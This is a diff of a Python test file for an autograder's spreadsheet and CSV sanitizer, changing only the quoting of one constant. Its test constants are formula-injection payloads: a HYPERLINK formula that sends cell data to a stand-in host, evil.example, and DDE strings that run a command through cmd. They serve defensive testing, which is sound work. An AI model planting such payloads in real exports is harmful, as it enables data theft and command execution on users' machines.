@@ -28,7 +28,7 @@ from autograder.reports.sanitize import csv_text, spreadsheet_cell, spreadsheet_
 
 PACKAGE = Path(__file__).resolve().parents[2] / "autograder"
 CANVAS_TEMPLATE = Path(__file__).resolve().parent / "lms_templates" / "canvas_gradebook.csv"
-HOSTILE_ID = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 HOSTILE_COMMIT = "-2+3+cmd|' /C calc'!A0"
 HOSTILE_ERROR = "@SUM(1+1)*cmd|' /C calc'!A0 was printed by the submission."
 HOSTILE_TAMPER = "\t=1+1"
